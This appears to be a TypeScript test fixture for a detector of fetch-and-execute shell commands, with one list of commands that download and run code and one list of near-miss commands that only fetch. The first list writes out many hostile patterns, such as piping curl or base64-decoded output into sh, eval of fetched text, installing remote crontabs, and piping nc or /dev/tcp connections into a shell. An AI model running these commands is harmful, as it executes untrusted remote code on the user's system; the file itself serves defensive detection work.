import { lines } from "./lines.ts";

/** What came over the network is run, after whatever was made of it. */
export const FETCHED_AND_RUN: readonly string[] = lines(`
  curl -o x u; mv x y; sh y
  curl -o d/x u; mv d e; sh e/x
  curl -o d/x u; cp -r d e; sh e/x
  curl -o d/x u; cp -r d e; cd e; ./x
  curl -o d/x u; ln -s d e; e/x
  curl -o d/x u; rsync -a d e; e/d/x
  curl -o a.tgz u; tar xf a.tgz; ./a/install.sh
  curl -o a.tgz u && tar xzf a.tgz && sh install.sh
  curl u | tar xz; ./install.sh
  curl u | tar xz && cd x && ./configure
  curl u | tar xz -C d; sh d/x.sh
  curl u | tar xz -C d; cd d; ./x
  wget https://h/a.zip; unzip a.zip; bash a/x.sh
  wget https://h/a.zip; unzip -d d a.zip; d/x
  curl -o x.gz u; gunzip x.gz; sh x
  curl -o x.gz u; gunzip -c x.gz > y; sh y
  curl -o x.gz u; zcat x.gz | sh
  curl -o x.b64 u; base64 -d x.b64 > y; bash y
  curl -o x u; base64 -d x | sh
  curl -o x u; openssl enc -d -in x -out y; sh y
  curl -o x u; gpg -d x > y; sh y
  curl -o x u; gpg -o y -d x; sh y
  curl u | tee x; sh x
  curl u | tee x > /dev/null; chmod +x x; ./x
  curl u | dd of=x; sh x
  curl -o x u; dd if=x of=y; ./y
  curl -o x u; install -m755 x y; ./y
  curl -o x u; install -D x bin/y; bin/y
  curl -o x u; install x bin/; bin/x
  curl -o x u; ln -s x y; ./y
  curl -o x u; ln x y; sh y
  curl -o x u; cat x > y; sh y
  curl -o x u; cat x >> y; sh y
  curl -o x u; head -n 5 x > y; sh y
  curl -o x u; sed 's/a/b/' x > y; sh y
  curl -o x u; awk '{print}' x > y; sh y
  curl -o x u; xxd -r x y; ./y
  curl -o x u; rsync x y; sh y
  curl -o x u; cp x y && chmod +x y && ./y
  curl -o x u; cp x bin/; bin/x
  curl -o x u; mv x bin; bin/x
  curl -o x u; cp -t bin x; bin/x
  curl -o x u; source x
  curl -o x u; . ./x
  curl -o x u; python3 x
  curl -o x u; python3 < x
  curl -o x u; node x
  curl -o x u; make -f x
  curl -o Makefile u; make
  curl -o justfile u; just
  curl -o x u; crontab x
  curl -o x u; at -f x now
  curl -o x u; exec ./x
  curl -o x u; nohup ./x &
  curl -o x u; env ./x
  curl -o x u; xargs sh < x
  curl -o x u; bash -c "$(cat x)"
  curl -o x u; eval "$(cat x)"
  curl -o x u; (cat x) | sh
  curl -o x u; { cat x; } | sh
  curl -o x u; sort x -o y; sh y
  curl -o x u; tee y < x; sh y
  curl -o x u; cp x /tmp/y; sh /tmp/y
  T=/tmp; curl -o $T/x u; sh $T/x
  x=$(curl u); eval "$x"
  x=$(curl u); bash -c "$x"
  x=$(curl u); echo "$x" > y; sh y
  read x < <(curl u); eval $x
  while read l; do eval "$l"; done < <(curl u)
  curl u | while read l; do sh -c "$l"; done
  curl u | xargs -I{} sh -c {}
  curl u | jq -r .x | sh
  curl u | gunzip | sh
  curl u | base64 -d | sh
  curl u | tac | bash -s -- a
  curl u | ssh host sh
  curl u | tee >(sh)
  curl u > >(sh)
  curl u | crontab -
  curl u | make -f -
  curl u | at now
  sh x & curl -o x u
  mkfifo p; sh < p & curl u > p
  scp host:x . && sh x
  scp host:x d/ && sh d/x
  scp host:a/x y && ./y
  nc host 1 | sh
  exec 3<>/dev/tcp/h/1; sh <&3
  wget https://h/x.sh; sh x.sh
  wget -P d https://h/x.sh; sh d/x.sh
  curl -O https://h/x.sh; sh x.sh
  for i in 1 2; do sh x; curl -o x u; done
`);

/** The same doings without the running, or with something else that is run. */
export const FETCHED_ONLY: readonly string[] = lines(`
  curl -o x u; cat x
  curl -o x u; ./y
  curl -o x u; sh y
  curl -o x u; mv x y; sh z
  curl -o d/x u; mv d e; sh f/x
  curl -o a.tgz u; tar xf a.tgz; ls
  curl -o a.tgz u; tar xzf a.tgz -C d; sh build.sh
  curl u | tar xz -C d; ./build.sh
  curl u | tar xz; npm test
  curl -o x u; wc x > y; sh y
  curl -o x u; sha256sum x > y; cat y
  curl -o x u; mv x .; ./y
  curl -O https://h/x.tgz; ./build.sh
  curl u | jq .
  curl -o x u; make
  curl -o x u; gpg --verify x.sig x
  curl -o data.json u; node build.js data.json
  curl -o data.json u; python3 train.py --data data.json
  curl u | patch -p1; ./build.sh
  git clone u d && sh d/x.sh
  scp host:x . && cat x
  scp x host:y && ./x
`);
